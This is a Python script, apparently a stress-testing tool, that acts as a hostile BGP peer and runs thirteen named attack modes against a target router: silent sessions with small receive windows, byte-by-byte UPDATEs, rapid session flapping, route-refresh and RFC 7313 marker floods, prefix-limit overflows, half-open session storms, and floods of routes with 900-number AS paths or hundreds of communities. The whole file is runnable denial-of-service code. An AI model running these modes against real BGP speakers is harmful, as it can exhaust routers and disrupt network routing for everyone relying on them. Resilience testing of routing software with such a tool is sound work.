#!/usr/bin/env python3
"""One peer (or many) that does to a BGP speaker what the protocol allows and nobody wants. Python 3 stdlib only.

siege.py HABIT TARGET SOURCE   goes on until it is killed; prints "begun" once it is in full swing. See README.md.
"""
import os, select, socket, struct, sys, threading, time

TARGET_AS = 65000
FF = b'\xff' * 16


def pack(kind, body=b''):
    return FF + struct.pack('>HB', 19 + len(body), kind) + body


KEEPALIVE = pack(4)
REFRESH = pack(5, b'\0\1\0\1')
BEGIN = pack(5, b'\0\1\1\1')
END = pack(5, b'\0\1\2\1')


def as_of(source):
    return 65300 + int(source.split('.')[3])


def open_of(source, hold=180):
    asn = as_of(source)
    caps = bytes.fromhex('010400010001' '0200' '4600' '0600') + b'\x41\4' + struct.pack('>I', asn)
    params = struct.pack('>BB', 2, len(caps)) + caps
    return pack(1, struct.pack('>BHH', 4, asn, hold) + socket.inet_aton(source) + struct.pack('>B', len(params)) + params)


def call(target, source, window=0):
    s = socket.socket()
    s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    if window:
        s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, window)
    s.bind((source, 0))
    s.settimeout(5)
    s.connect((target, 179))
    s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    return s


def exact(s, n):
    out = b''
    while len(out) < n:
        got = s.recv(n - len(out))
        if not got:
            raise OSError('closed')
        out += got
    return out


def come_up(target, source, window=0):
    s = call(target, source, window)
    s.sendall(open_of(source))
    for _ in range(2):
        head = exact(s, 19)
        exact(s, struct.unpack('>H', head[16:18])[0] - 19)
        if head[18] == 3:
            raise OSError('refused')
        if head[18] == 1:
            s.sendall(KEEPALIVE)
    s.settimeout(None)
    return s


SAYING = threading.Lock()


def say(s, messages):
    """Whole messages of a session that drain() keeps up: a KEEPALIVE comes between them, not into them."""
    with SAYING:
        s.sendall(messages)


def drain(s):
    """Reads and forgets all that comes; the hold time of the other side is kept up."""
    def read():
        try:
            while s.recv(1 << 18):
                pass
        except OSError:
            pass
    def live():
        try:
            while True:
                time.sleep(20)
                say(s, KEEPALIVE)
        except OSError:
            pass
    threading.Thread(target=read, daemon=True).start()
    threading.Thread(target=live, daemon=True).start()


def attribute(flags, kind, value):
    if len(value) > 255:
        return struct.pack('>BBH', flags | 0x10, kind, len(value)) + value
    return struct.pack('>BBB', flags, kind, len(value)) + value


def update(source, prefixes, path=b'', more=b''):
    """path: further AS numbers, four octets each; more: whole attributes."""
    numbers = struct.pack('>I', as_of(source)) + path
    segments = b''
    for at in range(0, len(numbers), 1020):
        part = numbers[at:at + 1020]
        segments += struct.pack('>BB', 2, len(part) // 4) + part
    attributes = (attribute(0x40, 1, b'\0') + attribute(0x40, 2, segments)
                  + attribute(0x40, 3, socket.inet_aton(source)) + more)
    return pack(2, b'\0\0' + struct.pack('>H', len(attributes)) + attributes + prefixes)


def prefix(number):
    """The /29 of that number from 64.0.0.0 on: longer than all that the others have."""
    return b'\x1d' + struct.pack('>I', 0x40000000 + (number << 3))


def many(source, count, each=500):
    return [update(source, b''.join(prefix(k) for k in range(i, min(count, i + each))))
            for i in range(0, count, each)]


def begun(text=''):
    print('begun', text, flush=True)


def stay():
    while True:
        time.sleep(60)


def mute(target, source):
    """Up, and reads nothing from then on."""
    s = come_up(target, source, 4096)
    begun()
    while True:
        time.sleep(20)
        s.send(KEEPALIVE)


def trickle(target, source):
    """UPDATEs octet by octet, as fast as a segment for each goes."""
    s = come_up(target, source)
    drain(s)
    begun()
    while True:
        for message in many(source, 5000):
            with SAYING:
                for octet in message:
                    s.send(bytes((octet,)))


def flap(target, source):
    """Up, tells a thousand routes, and is gone, without a pause."""
    routes = b''.join(many(source, 1000))
    said = False
    while True:
        try:
            s = come_up(target, source)
            s.sendall(routes)
            s.close()
        except OSError:
            time.sleep(0.002)
        if not said:
            begun()
            said = True


def refresh(target, source):
    """Asks for all again and again, and reads what it is told."""
    s = come_up(target, source)
    drain(s)
    begun()
    while True:
        say(s, REFRESH * 4000)


def refresh_mute(target, source):
    """As above, and reads nothing."""
    s = come_up(target, source, 4096)
    begun()
    while True:
        s.sendall(REFRESH * 4000)


def markers(target, source):
    """Says that it tells all again (RFC 7313), and that it has, again and again, with 100,000 routes."""
    s = come_up(target, source)
    drain(s)
    for message in many(source, 100000):
        say(s, message)
    begun()
    while True:
        say(s, (BEGIN + END) * 2000 + many(source, 500)[0])


def limit(target, source):
    """A million routes over a limit of 10,000, and again as soon as it may."""
    messages = b''.join(many(source, 1010000))
    said = False
    while True:
        try:
            s = come_up(target, source)
            s.sendall(messages)
            time.sleep(0.1)
        except OSError:
            time.sleep(0.01)
        if not said:
            begun()
            said = True


def storms(target, callers):
    """As many half sessions, each second closed and opened anew; every second one says an OPEN, which is its peer's."""
    said = False
    while True:
        held = []
        for i, (caller, identifier) in enumerate(callers):
            try:
                s = call(target, caller)
                held.append(s)
                if i % 2:
                    s.sendall(open_of(identifier))
            except OSError:
                pass
        if not said:
            begun()
            said = True
        time.sleep(1)
        for s in held:
            s.close()


def half(target, source):
    """A thousand half sessions from a range."""
    net = source.rsplit('.', 2)[0]
    storms(target, [('%s.%d.%d' % (net, 128 + i // 250, 1 + i % 250), '%s.128.200' % net) for i in range(1000)])


def half_own(target, source):
    """A thousand half sessions of one peer, from its own address."""
    storms(target, [(source, source)] * 1000)


def tell(target, source, messages):
    s = come_up(target, source)
    drain(s)
    chunk = bytearray()
    for message in messages:
        chunk += message
        if len(chunk) > 1 << 18:
            say(s, chunk)
            chunk.clear()
    say(s, chunk)
    begun()
    stay()


def sets(target, source):
    """A million routes, each with attributes of its own (four communities)."""
    tell(target, source, (update(source, prefix(i), b'', attribute(0xc0, 8, struct.pack('>IIII', i, i + 1, i + 2, i + 3)))
                          for i in range(1000000)))


def paths(target, source):
    """100,000 routes, each with an AS path of its own of 900 numbers."""
    rest = b''.join(struct.pack('>I', 66000 + k) for k in range(899))
    tell(target, source, (update(source, prefix(i), struct.pack('>I', 100000 + i) + rest) for i in range(100000)))


def large(target, source):
    """100,000 routes, each with 300 large communities of its own."""
    rest = b''.join(struct.pack('>III', 1, 2, k) for k in range(299))
    tell(target, source, (update(source, prefix(i), b'', attribute(0xc0, 32, struct.pack('>III', 9, 9, i) + rest))
                          for i in range(100000)))


def greedy(target, source):
    """Routes without end, each with an AS path of its own of 900 numbers, and again when it is sent away."""
    rest = b''.join(struct.pack('>I', 66000 + k) for k in range(899))
    said = False
    while True:
        try:
            s = come_up(target, source)
            drain(s)
            for i in range(4000000):
                say(s, update(source, prefix(i), struct.pack('>I', 100000 + i) + rest))
                if i == 5000 and not said:
                    begun()
                    said = True
        except OSError:
            time.sleep(0.05)


HABITS = {f.__name__.replace('_', '-'): f for f in (
    mute, trickle, flap, refresh, refresh_mute, markers, limit, half, half_own, sets, paths, large, greedy)}

if __name__ == '__main__':
    if len(sys.argv) != 4 or sys.argv[1] not in HABITS:
        sys.exit('usage: siege.py HABIT TARGET SOURCE; HABIT: ' + ' '.join(HABITS))
    try:
        HABITS[sys.argv[1]](sys.argv[2], sys.argv[3])
    except OSError as e:
        sys.exit('siege.py %s: the session ended: %s' % (sys.argv[1], e))
